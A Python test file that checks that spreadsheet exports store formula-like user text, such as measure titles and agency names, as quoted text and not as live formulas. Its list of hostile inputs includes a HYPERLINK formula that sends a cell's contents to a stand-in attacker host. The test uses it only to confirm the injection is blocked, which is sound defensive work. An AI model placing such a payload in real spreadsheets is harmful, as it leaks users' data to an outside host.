"""Exports never carry a live formula: text typed by people stays text in every workbook."""

from __future__ import annotations

import dataclasses
import io
import zipfile

from openpyxl import load_workbook

from itaplan.documents.tests.conftest import build_seed
from itaplan.documents.xlsx import MEASURES_SHEET, measures_xlsx
from itaplan.results.spreadsheet import template_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def no_formula_anywhere(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


def test_measure_titles_that_look_like_formulas_are_exported_as_their_text() -> None:
    document = build_seed("004").document
    measures = [
        dataclasses.replace(row, title=title, monitoring=title)
        for row, title in zip(document.measures, HOSTILE, strict=False)
    ]
    data = measures_xlsx(dataclasses.replace(document, measures=tuple(measures)))
    no_formula_anywhere(data)
    sheet = load_workbook(io.BytesIO(data))[MEASURES_SHEET]
    titles = [sheet.cell(row=n, column=6) for n in range(2, 2 + len(measures))]
    assert [c.value for c in titles] == HOSTILE[: len(measures)]
    assert all(c.data_type == "s" and c.quotePrefix for c in titles)
    assert sheet["F1"].value == "มาตรการ" and not sheet["F1"].quotePrefix


def test_agency_names_that_look_like_formulas_stay_text_in_the_results_template() -> None:
    data = template_xlsx(None, [("x", HOSTILE[0]), ("y", "=1+1")], 2568)
    no_formula_anywhere(data)
    sheet = load_workbook(io.BytesIO(data)).active
    assert [sheet["B2"].value, sheet["B3"].value] == [HOSTILE[0], "=1+1"]
